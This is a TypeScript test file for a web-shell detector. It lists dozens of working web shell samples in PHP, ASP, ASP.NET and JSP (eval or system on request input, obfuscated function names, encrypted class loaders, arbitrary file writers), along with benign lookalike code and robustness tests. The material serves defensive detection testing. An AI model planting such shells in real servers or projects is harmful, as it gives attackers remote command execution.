import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { EvidenceId, Severity, VictimFile } from '../../model/index.ts'
import { content } from './content.ts'

// Samples are text in this file and nothing else: no server runs a .ts file, and none of them names a real address.

function file(path: string, text: string): VictimFile {
  const bytes = new TextEncoder().encode(text)
  return { evidence: 'test' as EvidenceId, path, host: 'web01', size: bytes.length, encoding: 'utf-8', bytes, text }
}

function judged(path: string, text: string) {
  const item = file(path, text)
  return content.wants(item) ? content.judge(item) : undefined
}

type Case = readonly [name: string, path: string, text: string, severity: Severity, what: string]

const SHELLS: readonly Case[] = [
  // PHP
  ['eval of a parameter', 'a.php', '<?php @eval($_POST["x"]);?>', 'critical', 'runs code of the request'],
  ['in a picture', 'up/a.jpg', 'GIF89a\x01<?php system($_GET["c"]); ?>', 'critical', 'runs commands of the request'],
  [
    'through a variable',
    'a.php',
    '<?php\n$c = $_REQUEST["cmd"];\n$c = trim($c);\n$out = shell_exec($c . " 2>&1");\necho $out;',
    'critical',
    'runs commands of the request',
  ],
  ['backticks', 'a.php', '<?= `$_GET[0]` ?>', 'critical', 'runs commands of the request'],
  ['a function named by the request', 'a.php', '<?php $_GET["f"]($_GET["a"]);', 'high', 'calls functions named by the request'],
  [
    'the same through a variable',
    'a.php',
    '<?php $f=$_COOKIE["f"]; $f($_POST["a"]);',
    'high',
    'calls functions named by the request',
  ],
  ['a hidden name', 'a.php', '<?php $f = "as"."se"."rt"; $f($_POST["a"]);', 'critical', 'runs code of the request'],
  [
    'a name turned round',
    'a.php',
    '<?php $f = strrev("metsys"); @$f($_REQUEST["a"]);',
    'critical',
    'runs commands of the request',
  ],
  [
    'a name mixed of two texts',
    'a.php',
    "<?php $f = '2825$,' ^ 'AAAAAA'; $f($_POST[\"a\"]);",
    'critical',
    'runs commands of the request',
  ],
  ['a hidden request variable', 'a.php', '<?php $v = "_PO"."ST"; eval(${$v}["x"]);', 'critical', 'runs code of the request'],
  ['a name as text', 'a.php', '<?php ("sys"."tem")($_GET["x"]);', 'critical', 'runs commands of the request'],
  ['a callback', 'a.php', '<?php array_map("assert", array($_POST["x"]));', 'critical', 'runs code of the request'],
  [
    'a callback of the request',
    'a.php',
    '<?php array_filter(array($_POST["x"]), $_POST["f"]);',
    'high',
    'calls functions named by the request',
  ],
  ['replacement as code', 'a.php', '<?php preg_replace("/.*/e", $_POST["x"], "");', 'critical', 'runs code of the request'],
  [
    'code of the request body',
    'a.php',
    '<?php eval(base64_decode(file_get_contents("php://input")));',
    'critical',
    'runs code of the request',
  ],
  ['a header', 'a.php', '<?php eval($_SERVER["HTTP_X_DATA"]);', 'critical', 'runs code of the request'],
  [
    'every variable of the request',
    'a.php',
    '<?php @extract($_REQUEST); @die($ctime($atime)); eval($z);',
    'critical',
    'runs code of the request',
  ],
  [
    'through a function of its own',
    'a.php',
    '<?php function run($what) { return passthru($what); }\nrun($_POST["q"]);',
    'critical',
    'runs commands of the request',
  ],
  [
    'a function that returns the request',
    'a.php',
    '<?php function q() { return $_POST["q"]; }\n$a = q(); popen($a, "r");',
    'critical',
    'runs commands of the request',
  ],
  [
    'packed code',
    'a.php',
    `<?php eval(gzinflate(base64_decode("${'QUJD'.repeat(30)}")));`,
    'high',
    'runs code it carries packed',
  ],
  [
    'packed code in a variable',
    'a.php',
    `<?php $d = "${'QUJD'.repeat(30)}"; $c = base64_decode($d); eval($c);`,
    'high',
    'runs code it carries packed',
  ],
  [
    'any file anywhere',
    'a.php',
    '<?php file_put_contents($_POST["f"], $_POST["c"]);',
    'medium',
    'writes any file the request names',
  ],
  [
    'an upload form of its own',
    'a.php',
    '<?php copy($_FILES["f"]["tmp_name"], $_FILES["f"]["name"]);',
    'medium',
    'writes any file the request names',
  ],
  [
    'a request value in a fixed command',
    'a.php',
    '<?php system("ping -c 1 " . $_GET["h"]);',
    'medium',
    'puts request values into a command',
  ],
  [
    'a hidden name without a request',
    'a.php',
    '<?php $f = "ev"."al" . ""; $g = "sys" . "tem"; $g("id");',
    'medium',
    'hides the name of a function',
  ],
  // Classic ASP
  ['VBScript', 'a.asp', '<%eval request("x")%>', 'critical', 'runs code of the request'],
  ['VBScript in a text file', 'a.txt', '<% ExecuteGlobal(Request.Form("x")) %>', 'critical', 'runs code of the request'],
  [
    'a shell object',
    'a.asp',
    '<%\nDim s, c\nc = Request.Form("c")\nSet s = Server.CreateObject("WScript.Shell")\nSet e = s.Exec("cmd /c " & c)\nResponse.Write e.StdOut.ReadAll\n%>',
    'critical',
    'runs commands of the request',
  ],
  [
    'a shell object with a split name',
    'a.asp',
    '<% Set s = CreateObject("WSc" & "ript.Sh" & "ell")\ns.Run Request("c"), 0 %>',
    'critical',
    'runs commands of the request',
  ],
  [
    'a file writer',
    'a.asp',
    '<%\nSet f = CreateObject("Scripting.FileSystemObject").CreateTextFile(Request("p"))\nf.Write Request("d")\n%>',
    'medium',
    'writes any file',
  ],
  ['JScript', 'a.asp', '<%@ Language="JScript" %><% eval(Request.Item("x") + ""); %>', 'critical', 'runs code of the request'],
  // ASP.NET
  [
    'JScript.NET',
    'a.aspx',
    '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>',
    'critical',
    'runs code of the request',
  ],
  [
    'a process',
    'a.aspx',
    '<%@ Page Language="C#" %><script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  var c = Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["q"]));\n  var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c);\n  System.Diagnostics.Process.Start(p);\n}</script>',
    'critical',
    'runs commands of the request',
  ],
  [
    'a text box',
    'a.aspx',
    '<%@ Page Language="C#" %><script runat="server">\nstring Run(string arg) {\n  ProcessStartInfo psi = new ProcessStartInfo();\n  psi.FileName = "cmd.exe";\n  psi.Arguments = "/c " + arg;\n  return Process.Start(psi).StandardOutput.ReadToEnd();\n}\nvoid Go(object s, EventArgs e) { Response.Write(Run(txtArg.Text)); }</script>',
    'critical',
    'runs commands of the request',
  ],
  [
    'an object initialiser',
    'a.aspx',
    '<%@ Page Language="C#" %><% var p = new Process { StartInfo = new ProcessStartInfo { FileName = "cmd", Arguments = Request["a"] } }; p.Start(); %>',
    'critical',
    'runs commands of the request',
  ],
  [
    'an assembly of the request',
    'a.ashx',
    '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext context) { byte[] b = Convert.FromBase64String(context.Request["k"]); Assembly.Load(b).CreateInstance("P"); } }',
    'critical',
    'loads classes sent by the request',
  ],
  [
    'Visual Basic',
    'a.aspx',
    '<%@ Page Language="VB" %><script runat="server">\nSub Page_Load()\n  Dim p As New Process()\n  p.StartInfo.FileName = "cmd.exe"\n  p.StartInfo.Arguments = "/c " & Request.Form("c")\n  p.Start()\nEnd Sub\n</script>',
    'critical',
    'runs commands of the request',
  ],
  [
    'a file of the request',
    'a.aspx',
    '<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Request["p"], Request["d"]); %>',
    'medium',
    'writes any file',
  ],
  // JSP
  [
    'Runtime.exec',
    'a.jsp',
    '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>',
    'critical',
    'runs commands of the request',
  ],
  [
    'a list of words',
    'a.jsp',
    '<%@ page import="java.util.*" %><%\nString c = request.getParameter("c");\nString[] cmd = new String[]{"/bin/sh", "-c", c};\nRuntime rt = Runtime.getRuntime();\nrt.exec(cmd);\n%>',
    'critical',
    'runs commands of the request',
  ],
  [
    'words in numbers',
    'a.jspx',
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet><![CDATA[\nString a = request.getParameter("k");\nbyte[] w = new byte[]{99, 109, 100};\nString x = new String(w);\nProcessBuilder b = new ProcessBuilder(x, new String(new byte[]{47, 67}), a);\n]]></jsp:scriptlet></jsp:root>',
    'critical',
    'hides their words in numbers',
  ],
  [
    'entities of JSPX',
    'a.jspx',
    '<jsp:root version="2.0"><jsp:scriptlet>if (1 &lt; 2 &amp;&amp; true) { Runtime.getRuntime().exec(request.getHeader(&quot;x&quot;)); }</jsp:scriptlet></jsp:root>',
    'critical',
    'runs commands of the request',
  ],
  [
    'a class of the request',
    'a.jsp',
    '<%!\nclass U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) { return super.defineClass(b, 0, b.length); } }\n%><%\nString k = "0123456789abcdef";\nCipher c = Cipher.getInstance("AES"); c.init(2, new SecretKeySpec(k.getBytes(), "AES"));\nnew U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);\n%>',
    'critical',
    'loads classes sent by the request',
  ],
  [
    'an upload',
    'a.jsp',
    '<% new java.io.FileOutputStream(request.getParameter("f")).write(request.getParameter("t").getBytes()); %>',
    'medium',
    'writes any file',
  ],
]

describe('fires', () => {
  test.each(SHELLS)('%s (%s)', (_name, path, text, severity, what) => {
    const match = judged(`var/www/${path}`, text)
    expect(match?.severity).toBe(severity)
    expect(match?.title).toContain(what)
    expect(match?.object).toBe(`var/www/${path}`)
    expect(match?.why).toMatch(/line \d+/)
    if (severity === 'medium') expect(match?.innocent).not.toBe('')
  })

  test('says the line of the source and the line of the sink', () => {
    const match = judged('a.php', '<?php\n$a = $_POST["k"];\n\n$b = "x" . $a;\neval($a);\n')
    expect(match?.why).toContain('$_POST[k] of line 2 reaches eval() in line 5')
  })
})

const ORDINARY: readonly (readonly [name: string, path: string, text: string])[] = [
  ['a comment that names it', 'a.php', '<?php // eval($_POST["x"]);\n# system($_GET[1])\n/* assert($_POST["x"]) */ echo 1;'],
  ['a text that names it', 'a.php', '<?php echo "never write eval(\\$_POST[1])"; $help = \'system($_GET["c"])\';'],
  ['outside the tags', 'a.php', '<p>eval($_POST["x"])</p><?php echo 1 ?> system($_GET["c"])'],
  ['phpinfo', 'info.php', '<?php phpinfo(); ?>'],
  [
    'templates including constants',
    'index.php',
    '<?php require_once __DIR__ . "/wp-load.php"; include ABSPATH . "inc/" . $page . ".php"; include "header.php";',
  ],
  [
    'a page switch with a folder and a check',
    'index.php',
    '<?php $p = $_GET["p"]; if (!in_array($p, ["home", "about"])) $p = "home"; include $p . ".php"; include "pages/" . basename($_GET["q"]) . ".php";',
  ],
  [
    'WordPress-like code',
    'functions.php',
    '<?php function clean($value) { return preg_replace("/[^a-z]/i", "", stripslashes($value)); }\n$name = clean($_POST["name"]);\n$opts = unserialize(get_option("x"));\n$wpdb->query($wpdb->prepare("select * from t where n = %s", $_GET["n"]));\ncall_user_func(array($this, $method), $args);\n$callback = $this->hooks[$tag]; $callback($name);\nadd_action("init", "start");',
  ],
  [
    'a controller',
    'c.php',
    '<?php class C { function run() { $action = "do_" . $_GET["a"]; if (method_exists($this, $action)) $this->$action(); } }',
  ],
  [
    'a function looked up under a key',
    'j.php',
    '<?php $id = $_POST["id"]; $form = $controls[$id]; call_user_func($form["callback"]); $handlers[$_GET["a"]](1); $c = new Controller($_GET["x"]); $c($request);',
  ],
  [
    'a database',
    'd.php',
    '<?php $pdo = new PDO($dsn); $pdo->exec("delete from t where id = " . (int) $_POST["id"]); $db->query($_GET["sort"]);',
  ],
  [
    'escaped commands',
    'e.php',
    '<?php $h = escapeshellarg($_GET["host"]); system("ping -c 1 " . $h); exec("convert " . escapeshellarg($_FILES["f"]["tmp_name"]) . " out.png");',
  ],
  ['commands of its own', 'f.php', '<?php $out = shell_exec("git rev-parse HEAD"); exec("nice " . PHP_BINARY . " job.php");'],
  [
    'an upload that validates',
    'up.php',
    '<?php $ext = strtolower(pathinfo($_FILES["f"]["name"], PATHINFO_EXTENSION));\nif (in_array($ext, ["png", "jpg"]) && getimagesize($_FILES["f"]["tmp_name"])) move_uploaded_file($_FILES["f"]["tmp_name"], "uploads/" . md5(uniqid()) . "." . $ext);',
  ],
  [
    'the same names in two functions',
    'g.php',
    '<?php function a() { $cmd = $_POST["cmd"]; return save($cmd); }\nfunction b() { $cmd = "ls"; exec($cmd); }',
  ],
  [
    'a class with an eval method',
    'h.php',
    '<?php $calc->eval($_POST["formula"]); $tpl->system($_GET["x"]); Foo::exec($_GET["y"]);',
  ],
  [
    'the name PHP gave to an upload',
    'k.php',
    '<?php file_put_contents($_FILES["f"]["tmp_name"], clean($_POST["x"])); exec("clamscan " . $_FILES["f"]["tmp_name"]);',
  ],
  ['an assertion', 'l.php', '<?php $r = strrev($name); assert($r instanceof Name);'],
  [
    'decoded data that is data',
    'i.php',
    `<?php $img = base64_decode("${'QUJD'.repeat(40)}"); header("Content-Type: image/png"); echo $img;`,
  ],
  [
    'an administration page that asks a database',
    'admin.asp',
    '<%\nDim conn, rs\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open Application("dsn")\nconn.Execute("update t set n = \'" & Replace(Request("n"), "\'", "\'\'") & "\' where id = " & CLng(Request("id")))\nSet rs = conn.Execute(Request.QueryString("q"))\nResponse.Write Server.HTMLEncode(Request("x"))\n%>',
  ],
  [
    'a comment of Basic',
    'b.asp',
    '<%\n\' eval request("x")\nRem execute request("y")\nIf Request("a") = "b" Then Response.Write "c"\n%>',
  ],
  [
    'data binding',
    'list.aspx',
    '<%@ Page Language="C#" %><asp:Repeater runat="server"><ItemTemplate><%# Eval("Name") %></ItemTemplate></asp:Repeater>',
  ],
  [
    'a sign-in page',
    'login.aspx',
    '<%@ Page Language="C#" %><script runat="server">\nvoid SignIn(object s, EventArgs e) {\n  var name = Request.Form["name"];\n  using (var command = new SqlCommand("select id from c where n = @n")) { command.Parameters.AddWithValue("@n", name); command.ExecuteScalar(); }\n  Log.Write(txtName.Text);\n}</script>',
  ],
  [
    'an upload into a fixed folder',
    'upload.aspx',
    '<%@ Page Language="C#" %><script runat="server">\nvoid Save(object s, EventArgs e) { var name = System.IO.Path.GetFileName(Notice.FileName); Notice.SaveAs(Server.MapPath("/files/" + name)); }</script>',
  ],
  [
    'a handler',
    'hook.ashx',
    '<%@ WebHandler Language="C#" Class="Hook" %>\npublic class Hook : IHttpHandler { public void ProcessRequest(HttpContext context) { var body = new StreamReader(context.Request.InputStream).ReadToEnd(); Queue.Add(body, context.Request.Headers["X-Signature"]); } }',
  ],
  [
    'a fixed process',
    'report.aspx',
    '<%@ Page Language="C#" %><% var id = int.Parse(Request["id"]); var p = new ProcessStartInfo("report.exe", "/id " + int.Parse(Request["id"])); Process.Start(p); %>',
  ],
  [
    'a servlet page with JDBC',
    'a.jsp',
    '<%@ page import="java.sql.*" %><%\nString id = request.getParameter("id");\nPreparedStatement s = c.prepareStatement("select * from t where id = ?");\ns.setString(1, id);\nResultSet rs = s.executeQuery();\nexecutor.execute(task);\nif ("go".equals(request.getParameter("do"))) { out.println(rs.getString(1)); }\n%>',
  ],
  [
    'a comment of JSP',
    'b.jsp',
    '<%@ page contentType="text/html" %><%-- Runtime.getRuntime().exec(request.getParameter("c")) --%><% // new ProcessBuilder(request.getParameter("c"))\nout.print("x"); %>',
  ],
  [
    'a fixed command of Java',
    'c.jsp',
    '<%@ page import="java.io.*" %><% String q = request.getParameter("q"); Process p = Runtime.getRuntime().exec("uptime"); out.println(q); %>',
  ],
  [
    'reflection on fixed names',
    'd.jsp',
    '<%@ page import="java.lang.reflect.*" %><% String v = request.getParameter("v"); Method m = o.getClass().getMethod("setName", String.class); m.invoke(o, v); %>',
  ],
  ['an access log', 'access.log', '203.0.113.9 - - [15/Aug/2023:05:34:25 +1000] "GET /?c=ls HTTP/1.1" 200 1\n'],
]

test.each(ORDINARY)('stays quiet: %s (%s)', (_name, path, text) => {
  expect(judged(`var/www/${path}`, text)).toBeUndefined()
})

test('statements without end behind it do not hide what a page plainly does', () => {
  expect(judged('var/www/x.php', `<?php eval($_POST["x"]); ${'return '.repeat(8000)}`)?.title).toMatch(/^x\.php: PHP page that/)
  expect(judged('var/www/x.php', `<?php echo "x"; ${'return '.repeat(8000)}`)).toBeUndefined()
})

test('any text ends without a throw, and soon', { timeout: 120_000 }, () => {
  const pieces = fc.constantFrom(
    ...'<?php |?>|<%|%>|<%@ page language="java" %>|<%@ Page Language="C#" %>|<script runat="server">|</script>|$_POST|["x"]|eval|(|)|{|}|[|]|;|=|.|\'|"|`|\\|//|/*|*/|#|$|$f|request|exec|new |ProcessBuilder|<<<X\n|X\n|\n|function f($a)|f|return |,|^|@|byte[]{99,109}|Set a = CreateObject("WScript.Shell")|a.Run |Sub x(|End Sub|_|:'.split(
      '|',
    ),
  )
  fc.assert(
    fc.property(
      fc.constantFrom('a.php', 'a.asp', 'a.aspx', 'a.jsp', 'a.jspx', 'a.txt'),
      fc.array(pieces, { maxLength: 80 }),
      (path, list) => {
        judged(path, list.join(''))
      },
    ),
    { numRuns: 800 },
  )
  for (const [path, open] of [
    ['a.php', '<?php '],
    ['a.asp', '<% '],
    ['a.aspx', '<%@ Page Language="C#" %><% '],
    ['a.jsp', '<%! '],
  ] as const)
    for (const piece of [
      '(',
      '"',
      '$a=',
      'a=',
      '[',
      '$f(',
      'f(',
      '/*',
      '// x\n',
      'a.b=',
      'x.exec(',
      'new FileWriter(a);',
      "'",
      '<script>',
      '<<<A\n',
      'a = b = ',
      '("a")(',
      'function f($x){f($_POST);',
      '$_POST[1].',
      'eval(',
      '<%',
    ])
      judged(path, open + piece.repeat(40_000 / piece.length))
})
